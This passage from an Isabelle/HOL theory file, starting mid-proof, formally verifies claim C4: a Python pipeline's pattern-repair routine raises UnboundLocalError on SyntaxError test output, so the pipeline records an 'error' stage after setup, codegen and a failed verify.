    "\<not> str_in ''importerror'' (lower out)" "\<not> str_in ''modulenotfounderror'' (lower out)"
    using assms(4) unfolding out_def by simp_all
  have pr: "pattern_repair os g p out s5 = (Inl (UnboundLocalError ''re''), s5)"
    by (rule pattern_repair_unbound [OF o(2,3,4)])
  have up: "[0..<MAX_FIX_ATTEMPTS] = 0 # [1..<MAX_FIX_ATTEMPTS]"
    by (simp add: MAX_FIX_ATTEMPTS_def upt_conv_Cons)
  have loop: "repair_loop os l g p [0..<MAX_FIX_ATTEMPTS] (snd (fst c')) s3
                = (Inl (UnboundLocalError ''re''), snd (fst c'), s5)"
    unfolding up
    apply (subst repair_loop.simps)
    unfolding Let_def assms(2) option.case s4_def [symmetric] rc
    by (simp add: assms(1) o(1) pr)
  have run: "execute_goal os l g p s
     = ((False, add_stage \<lparr>stage_name = ''error'', stage_status = ''fail'',
                           stage_detail = exn_str (UnboundLocalError ''re''),
                           stage_command = None\<rparr> (snd (fst c'))),
        logging ERROR (''PIPELINE ERROR: '' @ exn_str (UnboundLocalError ''re'')) s5)"
    unfolding execute_goal_def Let_def split_def stage_repair_def
    unfolding r0_def [symmetric] a_def [symmetric]
    unfolding b_def [symmetric] g1
    unfolding c'_def [symmetric] failed s3_def [symmetric] loop
    by simp
  have n0: "stage_names r0 = []" "stage_statuses r0 = []"
    by (simp_all add: stage_names_def stage_statuses_def r0_def)
  have na: "stage_names (fst a) = [''setup'']" "stage_statuses (fst a) = [''ok'']"
    unfolding a_def using stage_setup_report [of os p r0 s] n0 by simp_all
  have nb: "stage_names (snd (fst b)) = [''setup'', ''codegen'']"
    "stage_statuses (snd (fst b)) = [''ok'', ''ok'']"
    unfolding b_def
    by (simp_all add: stage_codegen_keeps(2,3) [OF keep] na)
  have nc: "stage_names (snd (fst c')) = [''setup'', ''codegen'', ''verify'']"
    "stage_statuses (snd (fst c')) = [''ok'', ''ok'', ''fail'']"
    using failed unfolding c'_def
    by (simp_all add: stage_verify_cmd(2,3) [OF assms(2,3)] nb)
  show ?thesis
    unfolding run using nc
    by (simp add: stage_names_def stage_statuses_def add_stage_def)
qed

lemma syntax_error_output:
  "is_test_failure (Some (''ERROR ['' @ show_int 1 @ '']: '' @ strip syntax_error))"
  "str_in ''syntaxerror'' (lower (''ERROR ['' @ show_int 1 @ '']: '' @ strip syntax_error))"
  "\<not> str_in ''importerror'' (lower (''ERROR ['' @ show_int 1 @ '']: '' @ strip syntax_error))"
  "\<not> str_in ''modulenotfounderror'' (lower (''ERROR ['' @ show_int 1 @ '']: '' @ strip syntax_error))"
  "str_in ''syntaxerror'' (lower syntax_error)"
  "\<not> str_in ''importerror'' (lower syntax_error)"
  "\<not> str_in ''modulenotfounderror'' (lower syntax_error)"
  by code_simp+

text \<open>
  Claim C4, on the code.  At the report of a \<open>SyntaxError\<close>, which holds
  \<open>syntaxerror\<close> once lower-cased and matches neither form of the import rule,
  \<open>_pattern_repair\<close> does not return: it raises \<open>UnboundLocalError\<close> for its local
  variable \<open>re\<close>, before it has searched the text for the file and the line.  In a run of
  the pipeline the exception is caught by \<open>execute_goal\<close>, which reports a stage \<open>error\<close>
  in the place of the stage \<open>repair\<close>.
\<close>

theorem pattern_repair_syntax_error_raises:
  "pattern_repair os g p syntax_error s = (Inl (UnboundLocalError ''re''), s)
   \<and> fst (fst (execute_goal syntax_machine None calc_goal ''/projects/calc'' start)) = False
   \<and> stage_names (snd (fst (execute_goal syntax_machine None calc_goal ''/projects/calc'' start)))
       = [''setup'', ''codegen'', ''verify'', ''error'']"
proof -
  have a: "pattern_repair os g p syntax_error s = (Inl (UnboundLocalError ''re''), s)"
    by (rule pattern_repair_unbound [OF syntax_error_output(5,6,7)])
  have u: "usable (None :: unit llm option) = None"
    by (simp add: usable_def)
  have c: "goal_test_cmd calc_goal = Some ''python3 test_calc.py''"
    by (simp add: calc_goal_def)
  have ne: "''python3 test_calc.py'' \<noteq> []"
    by simp
  have out: "fst (run_command syntax_machine ''python3 test_calc.py'' (Some ''/projects/calc'') t s')
               = ''ERROR ['' @ show_int 1 @ '']: '' @ strip syntax_error" for t s'
    by (simp add: syntax_machine_def run_on_machine)
  have h: "\<forall>t s'. is_test_failure (Some (fst (run_command syntax_machine ''python3 test_calc.py''
                      (Some ''/projects/calc'') t s')))
           \<and> str_in ''syntaxerror'' (lower (fst (run_command syntax_machine ''python3 test_calc.py''
                      (Some ''/projects/calc'') t s')))
           \<and> \<not> str_in ''importerror'' (lower (fst (run_command syntax_machine ''python3 test_calc.py''
                      (Some ''/projects/calc'') t s')))
           \<and> \<not> str_in ''modulenotfounderror'' (lower (fst (run_command syntax_machine
                      ''python3 test_calc.py'' (Some ''/projects/calc'') t s')))"
    unfolding out using syntax_error_output(1,2,3,4) by blast
  show ?thesis
    using a execute_goal_repair_raises [OF u c ne h, of start] by simp
qed

end
